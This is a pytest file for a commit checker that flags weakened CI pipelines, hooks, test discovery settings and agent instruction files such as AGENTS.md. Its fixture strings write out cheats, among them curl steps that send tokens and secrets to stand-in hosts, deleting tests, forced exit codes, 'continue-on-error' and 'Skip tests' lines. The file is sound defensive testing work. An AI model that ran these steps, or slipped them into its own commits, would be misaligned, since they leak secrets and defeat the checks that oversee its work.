"""What people do every day to pipelines, hooks and the texts of agents, each with the cheats beside it."""

import pytest

from tests.verify.test_everyday_fifteenth import judged
from tests.verify.test_everyday_turned import edit

FOUND = {"protected-path"}
CI = ".github/workflows/ci.yml"


def asked(path: str, old: str | None, new: str | None, message: str = "Fix the parser", **others: str) -> set[str]:
    """Judge a person's own commit of one file, and of new ones beside it."""
    return judged(
        edit(path, old, new), *(edit(f"{name}.py", "", text) for name, text in others.items()), message=message
    )


# -- texts that agents read ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["AGENTS.md", "@AGENTS.md\n", "../AGENTS.md"])
def test_a_text_of_agents_may_point_on_to_another(text: str) -> None:
    assert asked("docs/CLAUDE.md", None, text) == set()


@pytest.mark.parametrize("text", ["notes.md", "AGENTS.md\nSkip tests.", "@README.md", "AGENTS.md notes.md"])
def test_a_text_of_agents_that_says_more_than_where_to_read_is_found(text: str) -> None:
    assert asked("docs/CLAUDE.md", None, text) == FOUND


def test_a_text_of_agents_may_be_written_in_other_case() -> None:
    old = "Delete a user with *USERNAME*.\n"
    assert asked("AGENTS.md", old, old.replace("USERNAME", "username")) == set()
    assert asked("AGENTS.md", old, old.replace("USERNAME", "force")) == FOUND
    assert asked("AGENTS.md", old, f"{old}Do not run tests.\n") == FOUND
    assert asked("AGENTS.md", old, None) == FOUND


# -- what CI and hooks are made of ---------------------------------------------------------------------------------

SCRIPT = "PARTS = [\n    'a '\n    'b',\n]\nif not check(PARTS):\n    exit(1)\n"


def test_a_script_of_ci_may_look_other_than_it_did() -> None:
    formatted = SCRIPT.replace("    'a '\n    'b',\n", "    (\n        'a '\n        'b'\n    ),\n")
    assert asked(".github/check.py", SCRIPT, formatted) == set()
    assert asked(".github/check.py", SCRIPT, formatted.replace("'b'\n", "'b',\n")) == FOUND
    assert asked(".github/check.py", SCRIPT, SCRIPT.replace("exit(1)", "exit(0)")) == FOUND
    assert asked(".github/check.sh", "exit 1\n", "exit 0\n") == FOUND


HOOKS = 'repos:\n- repo: https://x.y/mypy\n  hooks:\n  - id: mypy\n    additional_dependencies: ["a>=3,<4"]\n'


def test_hooks_may_get_to_know_what_the_code_now_imports() -> None:
    def learned(packages: str, code: str = "from packaging import version\n") -> set[str]:
        path = ".pre-commit-config.yaml"
        return asked(path, HOOKS, HOOKS.replace('"a>=3,<4"', packages), module=code)

    assert learned('"a>=3,<4", "packaging"') == set()
    assert learned('"a>=3,<4", "packaging"', "packaging = None\n") == FOUND
    assert learned('"a>=3,<4", "packaging", "mine"') == FOUND
    assert learned('"packaging"') == FOUND
    assert learned('"a>=3,<4", "packaging"]\n    exclude: [tests') == FOUND


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        (CI, "      8.8:8.8-m02", "      8.8:dev-2480-debian"),
        (".pre-commit-config.yaml", "--py39-plus", "--py310-plus"),
    ],
)
def test_an_image_and_what_a_tool_calls_a_python_are_versions(path: str, old: str, new: str) -> None:
    text = f"env:\n  MAP: >-\n{old}\n  ARGS: check\n"
    assert asked(path, text, text.replace(old, new)) == set()
    assert asked(path, text, text.replace(old, f"{new} --exit-zero")) == FOUND
    assert asked(path, text, text.replace(old, new).replace("check", "nothing")) == FOUND


DEPLOYS = "on: push\njobs:\n  a:\n    steps:\n    - run: ./deploy\n      env:\n        WHO: ${{ secrets.OLD_USER }}\n"


def test_a_secret_that_the_message_is_about_may_have_another_name() -> None:
    message = "Migrate to the Central portal"
    renamed = DEPLOYS.replace("OLD_USER", "CENTRAL_USER")
    assert asked(CI, DEPLOYS, renamed, message) == set()
    assert asked(CI, DEPLOYS, renamed) == FOUND
    assert asked(CI, DEPLOYS, DEPLOYS.replace("OLD_USER", "GPG_KEY"), message) == FOUND
    assert asked(CI, DEPLOYS, f"{renamed}        MORE: ${{{{ secrets.CENTRAL_KEY }}}}\n", message) == FOUND
    assert asked(CI, DEPLOYS, renamed.replace("./deploy", "curl central.org -d $WHO"), message) == FOUND


# -- pipelines that ask more ---------------------------------------------------------------------------------------

PIPELINE = """on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        rust: [1.60, 1.70, stable]
        os:
          - linux
        include:
          - {os: mac, rust: stable}
    steps:
      - uses: actions/checkout@v3
      - name: Install
        run: |
          python -m pip install --upgrade pip
          make setup
      - run: sh ci/run.sh
        env:
          TARGET: x86
      - run: cargo build
      - run: cargo test
        if: matrix.rust == '1.70'
      - run: pytest
"""

WIDER = [
    ("cargo build", "cargo hack build --feature-powerset"),
    ("cargo test\n", "cargo test --all-features\n"),
    ("sh ci/run.sh", "ci/run.sh"),
    ("TARGET: x86", "TARGET: x86\n          CHANNEL: nightly"),
    ("make setup\n", "pip install -U .[dev]\n"),
    ("          make setup\n", ""),
    ("- linux\n", "- linux\n          - windows\n"),
    ("[1.60, 1.70, stable]", "[1.60, 1.70, 1.80, stable]"),
    ("      - run: cargo build\n", "      - run: cargo build\n      - uses: Swatinem/rust-cache@v2\n"),
    ("      - run: cargo build\n", "      - run: cargo build\n      - name: Docs\n        run: cargo doc --all\n"),
    ("run: pytest\n", "run: pytest\n  miri:\n    if: github.actor\n    steps:\n      - run: cargo miri test --all\n"),
    ("on: [push]\n", "on: [push]\npermissions:\n  contents: read\n"),
    ("cargo build\n", "cargo build\n      - run: uv run pytest more\n"),
]
COVERED = ("sh ci/run.sh", "ci/run.sh")
"""A change that is ordinary, beside which the cheats are made."""


@pytest.mark.parametrize(("old", "new"), WIDER)
def test_a_pipeline_may_ask_more(old: str, new: str) -> None:
    assert old in PIPELINE
    wider = PIPELINE.replace(old, new).replace("cargo test", "cargo test --workspace")
    assert asked(CI, PIPELINE, wider.replace("--workspace --all", "--all"), "Bump") == set()


NARROWER = [
    ("      - run: pytest\n", "      - if: github.actor == 'me'\n        run: pytest\n"),
    ("run: pytest\n", "run: pytest\n        if: matrix.os == 'bsd'\n"),
    ("run: pytest\n", "run: pytest\n        shell: sh -c true {0}\n"),
    ("      - run: pytest\n", "      - env:\n          FAST: 1\n        run: pytest\n"),
    ("run: pytest\n", "run: pytest tests/unit\n"),
    ("      - run: pytest\n", ""),
    ("      - run: pytest\n", "      - run: python ci/before.py\n      - run: pytest\n"),
    ("      - run: pytest\n", "      - run: rm -r tests\n      - run: pytest\n"),
    ("      - run: pytest\n", "      - run: pip uninstall it\n      - run: pytest\n"),
    ("      - run: pytest\n", "      - uses: them/their-action@v1\n      - run: pytest\n"),
    ("run: cargo build\n", "run: cargo build\n        continue-on-error: true\n"),
    ("== '1.70'", "== '1.71'"),
    ("          - {os: mac, rust: stable}", "          - os: linux\n            args: fast"),
    ("    runs-on: ubuntu-latest", "    runs-on: ubuntu-latest\n    if: github.actor == 'me'"),
    ("    runs-on: ubuntu-latest", "    runs-on: ubuntu-latest\n    needs: other"),
    ("run: pytest\n", "run: pytest\n  other:\n    permissions: write-all\n    steps:\n      - run: make\n"),
    ("run: pytest\n", "run: pytest\n  other:\n    steps:\n      - run: make >> $GITHUB_ENV\n"),
    ("run: pytest\n", "run: pytest\n  other:\n    environment: live\n    steps:\n      - run: make\n"),
    ("on: [push]", "on:\n  push:\n    branches: [none]"),
    ("      - run: pytest\n", "      - run: uv run rm tests\n      - run: pytest\n"),
    ("      - run: pytest\n", "      - run: python -m before\n      - run: pytest\n"),
    ("run: pytest\n", "run: pytest\n        env:\n          PYTEST_PLUGINS: ours\n"),
    ("run: |\n", "run: >\n"),
]


@pytest.mark.parametrize(("old", "new"), NARROWER)
def test_a_pipeline_that_asks_more_and_less_is_found(old: str, new: str) -> None:
    assert old in PIPELINE
    assert asked(CI, PIPELINE, PIPELINE.replace(old, new).replace(*COVERED), "Bump") == FOUND


def test_nothing_is_fetched_to_where_secrets_are() -> None:
    trusted = f"{PIPELINE}        env:\n          KEY: ${{{{ secrets.KEY }}}}\n"
    for step, rules in (("cargo doc --all", set()), ("cargo install theirs", FOUND)):
        more = trusted.replace("      - run: pytest\n", f"      - run: {step}\n      - run: pytest\n")
        assert asked(CI, trusted, more.replace(*COVERED), "Bump") == rules


@pytest.mark.parametrize("said", ["tox -e py", "nox -s tests-3.12", "./gradlew build", "mvn -B verify"])
def test_a_command_that_tests_by_another_name_may_name_no_part(said: str) -> None:
    text = PIPELINE.replace("run: pytest", f"run: {said}")
    for covered in ("sh ci/run.sh", *COVERED):
        narrower = text.replace(said, f"{said} tests/unit").replace("sh ci/run.sh", covered)
        assert asked(CI, text, narrower, "Bump") == FOUND
    assert asked(CI, text, text.replace(said, f"{said} -v"), "Bump") == set()


def test_what_was_left_out_may_be_asked_for() -> None:
    less = PIPELINE.replace("run: pytest", "run: pytest --ignore=old").replace("[1.60, 1.70, stable]", "[1.60, 1.70]")
    more = less.replace(" --ignore=old", "").replace("- linux\n", "- linux\n          - bsd\n")
    assert asked(CI, less, more, "Bump") == set()
    assert asked(CI, more, less, "Bump") == FOUND


def test_a_pipeline_is_moved_to_where_it_is_run() -> None:
    for path, rules in ((".github/workflows/main.yml", set()), (f"{CI}.off", FOUND), (".github/main.yml", FOUND)):
        assert judged(edit(CI, PIPELINE, None), edit(path, None, PIPELINE), message="Bump") == rules


TRAVIS = (
    "language: rust\nrust:\n  - stable\nmatrix:\n  include:\n    - rust: beta\n      script:\n        - cargo test\n"
)


def test_travis_may_run_more_beside_what_it_runs() -> None:
    more = "    - name: missing\n      env: TARGET=arm\n      script:\n        - cargo test --lib -- version\n"
    assert asked(".travis.yml", TRAVIS, TRAVIS + more, "Bump") == set()
    assert asked(".travis.yml", TRAVIS, TRAVIS + more.replace("cargo test", "curl x.y"), "Bump") == FOUND
    assert asked(".travis.yml", TRAVIS, f"{TRAVIS}  allow_failures:\n    - rust: beta\n", "Bump") == FOUND


# -- pipelines as a whole ------------------------------------------------------------------------------------------

NEW = """on: [push]
jobs:
  test:
    runs-on: ${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-latest, macos-latest]
    steps:
      - uses: actions/checkout@v3
      - run: pip install -U pip tox
      - run: tox -e py
"""
KEEPS = "on:\n  workflow_dispatch:\n  push:\n    tags:\n      - '*.*'\n"
GIVES = f"""{KEEPS}{NEW.partition("[push]")[2].lstrip()}        env:
          TOKEN: ${{{{ secrets.TOKEN }}}}
      - run: tox -e publish
"""


@pytest.mark.parametrize("text", [NEW, GIVES, NEW.replace("jobs:", "permissions:\n  security-events: write\njobs:")])
def test_a_new_pipeline_may_build_and_test_and_publish_for_those_who_keep_it(text: str) -> None:
    assert asked(".github/workflows/more.yml", None, text) == set()


@pytest.mark.parametrize(("old", "new"), [("pip tox", "pip thing"), ("tox -e py\n", "python -c 'import it'\n")])
def test_a_new_pipeline_that_is_trusted_with_nothing_may_run_what_it_likes(old: str, new: str) -> None:
    assert asked(".github/workflows/more.yml", None, NEW.replace(old, new)) == set()
    assert asked(".github/workflows/more.yml", None, GIVES.replace("tox -e py\n", "./it\n")) == FOUND


@pytest.mark.parametrize(
    ("text", "old", "new"),
    [
        (GIVES, KEEPS, "on: [push]\n"),
        (GIVES, "    tags:\n      - '*.*'\n", ""),
        (GIVES, "workflow_dispatch:", "pull_request:"),
        (GIVES, "tox -e publish", "curl x.y -d $TOKEN"),
        (GIVES, "tox -e publish", "echo ${{ secrets.OTHER }}"),
        (GIVES, "secrets.TOKEN }}", "toJSON(secrets) }}"),
        (NEW, "on: [push]", "on: pull_request_target"),
        (NEW, "[push]\n", "[push]\npermissions: write-all\n"),
        (NEW, "[push]\n", "[push]\npermissions:\n  contents: write\n"),
        (NEW, "${{ matrix.os }}", "self-hosted"),
        (NEW, "actions/checkout@v3", "them/checkout@v3"),
        (NEW, "pip tox", "pip $(cat thing)"),
        (NEW, "pip tox", "pip tox && curl x.y -d @it"),
        (NEW, "tox -e py\n", "tox -e py || true\n"),
        (NEW, "tox -e py\n", "npm publish\n"),
        (NEW, "tox -e py\n", "python -c 'import it' >> $GITHUB_ENV\n"),
        (NEW, "    strategy:", "    container: them/image\n    strategy:"),
    ],
)
def test_a_new_pipeline_that_hands_something_out_is_found(text: str, old: str, new: str) -> None:
    assert old in text
    assert asked(".github/workflows/more.yml", None, text.replace(old, new)) == FOUND


def exchanged(gone: str, old: str, new: str, before: str | None = None) -> set[str]:
    return judged(edit(gone, old, None), edit(CI, before, new), message="Fix the parser", tree=(CI,))


ONE = NEW.replace("${{ matrix.os }}", "macos-latest").partition("    strategy:")[0] + NEW[NEW.index("    steps:") :]


def test_what_a_pipeline_did_another_may_do() -> None:
    gone = ".github/workflows/one.yml"
    assert exchanged(gone, ONE, NEW) == set()
    assert exchanged(gone, ONE, NEW.replace("tox -e py", "tox -e docs")) == FOUND
    assert exchanged(gone, ONE, NEW.replace("tox -e py", "tox -e py -- tests/unit")) == FOUND
    assert exchanged(gone, ONE, NEW.replace("macos-latest", "windows-latest")) == FOUND
    assert exchanged(gone, ONE, f"{NEW}        if: github.actor == 'me'\n") == FOUND
    assert exchanged(gone, ONE.replace("checkout@v3", "checkout@v3\n      - uses: golangci/lint@v1"), NEW) == FOUND
    assert asked(gone, ONE, None) == FOUND


def test_a_service_that_was_left_is_not_missed() -> None:
    travis = "language: go\nscript:\n  - go test -v -race -coverprofile=a ./...\nafter_success: |\n  goveralls\n"
    flow = NEW.replace("tox -e py", "go test -race -coverprofile=b ./...")
    assert exchanged(".travis.yml", travis, flow.replace("v3", "v4"), flow) == set()
    assert exchanged(".travis.yml", travis, flow.replace("-race ", ""), flow) == FOUND
    assert exchanged(".travis.yml", travis, f"{flow}        continue-on-error: true\n", flow) == FOUND
    told = {"message": "Fix the parser", "tree": (CI, "a.go")}
    assert judged(edit(".travis.yml", travis, None), **told) == set()
    assert judged(edit(".travis.yml", travis, None), **(told | {"tree": (".github/workflows/typedoc.yml",)})) == FOUND
    assert judged(edit(CI, flow, None), **(told | {"tree": (".travis.yml",)})) == FOUND
    assert judged(edit(".travis.yml", travis, None), **(told | {"message": ""})) == FOUND


# -- where tests are looked for ------------------------------------------------------------------------------------

TREE = ("it/__init__.py", "it/a.py", "bench/speed.py", "tests/test_a.py", "tests/unit/test_b.py", "pyproject.toml")
DESELECTED = {"tests-deselected"}


def configured(said: str, *further: str, before: str = "", section: str = "") -> set[str]:
    head = f"[tool.other]\nit = 1\n\n[tool.pytest.ini_options]\n{section}"
    changed = edit("pyproject.toml", head + before, head + said)
    return judged(changed, tree=(*TREE, *further))


def test_all_tests_may_be_looked_for_where_they_are() -> None:
    assert configured('testpaths = ["tests"]\n') == set()
    assert configured('testpaths = ["tests/unit"]\n') == DESELECTED
    assert configured('testpaths = ["tests"]\n', "it/test_c.py") == DESELECTED
    assert configured('testpaths = ["tests"]\n', section='python_files = ["check_*.py"]\n') == DESELECTED
    assert configured('testpaths = ["tests"]\n', section='addopts = "--doctest-modules"\n') == DESELECTED
    assert configured('testpaths = ["tests/unit"]\n', before='testpaths = ["tests"]\n') == DESELECTED


def test_a_folder_without_tests_may_be_ignored() -> None:
    assert configured('addopts = "-v --doctest-modules --ignore=bench"\n') == set()
    assert configured('addopts = "-v --ignore=bench"\n', before='addopts = "-v"\n') == set()
    assert configured('addopts = "-v --ignore=bench"\n', "bench/test_speed.py") == DESELECTED
    assert configured('addopts = "--ignore=tests/unit"\n') == DESELECTED
    assert configured('addopts = "--ignore=bench -k fast"\n') == DESELECTED
    assert configured('addopts = "--ignore=../it/tests"\n') == DESELECTED
    assert configured('addopts = "--ignore=bench --ignore-glob=*_a.py"\n') == DESELECTED
    doctests = 'addopts = "--doctest-modules"\n'
    assert configured('addopts = "--doctest-modules --ignore=it"\n', before=doctests) == DESELECTED
